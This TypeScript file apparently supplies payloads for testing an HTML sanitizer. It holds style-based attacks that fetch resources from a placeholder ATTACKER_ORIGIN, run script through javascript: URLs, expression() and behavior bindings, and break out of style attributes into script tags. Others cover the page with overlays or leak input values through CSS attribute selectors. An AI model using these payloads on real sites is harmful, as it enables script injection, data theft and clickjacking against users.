// Payloads in styles that load resources, run scripts, cover the page or escape from their element.
import { ATTACKER_ORIGIN, type PayloadFamily } from './payload-family';

const styled = (style: string) => `<p style="${style}">a</p>`;

export const STYLE_PAYLOADS: PayloadFamily = {
  'a background': () =>
    styled(`background:url(${ATTACKER_ORIGIN}/a.png)`) + styled(`background-image:url('${ATTACKER_ORIGIN}/b.png')`),
  'a background with a javascript: URL': (run) => styled(`background:url(javascript:${run})`),
  'a background after a colour': () =>
    styled(`color:red;background-color:red;background:url(${ATTACKER_ORIGIN}/c.png) red`),
  'a colour with a URL': () =>
    styled(`background-color:url(${ATTACKER_ORIGIN}/d.png)`) + styled(`color:red url(${ATTACKER_ORIGIN}/e.png)`),
  'an escaped background': () => styled(`background:\\75\\72\\6c(${ATTACKER_ORIGIN}/f.png)`),
  'an escaped property': () => styled(`b\\61 ckground:url(${ATTACKER_ORIGIN}/g.png)`),
  'a padded escaped property': () => styled(`\\000062ackground:u\\000072l(${ATTACKER_ORIGIN}/h.png)`),
  'comments in a property': () =>
    styled(`back/**/ground:u/**/rl(${ATTACKER_ORIGIN}/i.png);/**/background:url(${ATTACKER_ORIGIN}/j.png)`),
  'an unclosed comment': () => styled(`color:red;/*;background:url(${ATTACKER_ORIGIN}/k.png)`),
  'an image set': () =>
    styled(`background:image-set('${ATTACKER_ORIGIN}/l.png' 1x)`) +
    styled(`background:-webkit-image-set(url(${ATTACKER_ORIGIN}/m.png) 1x)`),
  'images in other properties': () =>
    ['list-style', 'cursor', 'border-image', 'mask', 'filter', 'shape-outside', 'content', 'src']
      .map(
        (property) =>
          `<ul style="display:list-item;${property}:url(${ATTACKER_ORIGIN}/${property}.png),auto"><li>a</ul>`,
      )
      .join(''),
  'a CSS variable': () => styled(`--a:url(${ATTACKER_ORIGIN}/n.png);background:var(--a)`) + styled('color:var(--a)'),
  'an entity in a style': () => styled(`background&colon;url&lpar;${ATTACKER_ORIGIN}/o.png&rpar;`),
  'an expression': (run) => styled(`width:expression(${run})`) + styled(`color:expression(${run})`),
  'an escaped expression': (run) => styled(`width:ex\\70ression(${run})`) + styled(`xss:e/**/xpression(${run})`),
  'a behaviour': () =>
    styled(`behavior:url(${ATTACKER_ORIGIN}/a.htc)`) + styled(`-moz-binding:url(${ATTACKER_ORIGIN}/a.xml#a)`),
  'an overlay over the page': () => styled('position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999'),
  'an overlay made of margins': () => styled('margin:-9999px;padding:9999px;float:left;transform:scale(99);inset:0'),
  'text as large as the page': () =>
    styled('font-size:9999px') +
    styled('font-size:calc(100vw*9)') +
    styled('font-size:48.5px') +
    styled('font-size:1e9px'),
  'invisible text': () => styled('font-size:0;color:red') + styled('opacity:0') + styled('font-size:1px'),
  'a style that breaks out of its quotes': (run) => styled(`color:red&quot; onmouseover=&quot;${run}`),
  'a style that breaks out of its element': (run) => styled(`color:red}</style><script>${run}</script>`),
  'a style that closes its rule': () => styled(`color:red} body{background:url(${ATTACKER_ORIGIN}/p.png)`),
  'nested rules': () => styled(`color:red;& p{background:url(${ATTACKER_ORIGIN}/q.png)};@media all{color:blue}`),
  'an import in a style': () => styled(`@import '${ATTACKER_ORIGIN}/a.css';color:red`),
  'a property after an unclosed quote': () => styled(`color:'red;background:url(${ATTACKER_ORIGIN}/r.png)`),
  'line breaks in a value': () => styled(`color:re\\\nd;background:\\\nurl(${ATTACKER_ORIGIN}/s.png)`),
  'NULs in a style': () => styled(`back\u0000ground:url(${ATTACKER_ORIGIN}/t.png);color:r\u0000ed`),
  'a style sheet': () => `<style>p{background:url(${ATTACKER_ORIGIN}/u.png)}</style><p>a</p>`,
  'a style sheet that imports': () =>
    `<style>@import url(${ATTACKER_ORIGIN}/b.css);@import '${ATTACKER_ORIGIN}/c.css';</style>`,
  'a style sheet with a font': () =>
    `<style>@font-face{font-family:f;src:url(${ATTACKER_ORIGIN}/f.woff)}p{font-family:f}</style><p>a</p>`,
  'a style sheet that reads attributes': () =>
    `<style>input[value^=a]{background:url(${ATTACKER_ORIGIN}/v.png)}</style><input value=a>`,
  'a linked style sheet': () => `<link rel=stylesheet href="${ATTACKER_ORIGIN}/d.css">`,
  'a style sheet as a data: URL': () =>
    `<link rel=stylesheet href="data:text/css,p{background:url(${ATTACKER_ORIGIN}/w.png)}"><p>a`,
  'obsolete attributes that load': () =>
    `<table background="${ATTACKER_ORIGIN}/x.png"><tr><td background="${ATTACKER_ORIGIN}/y.png">a</table>`,
};
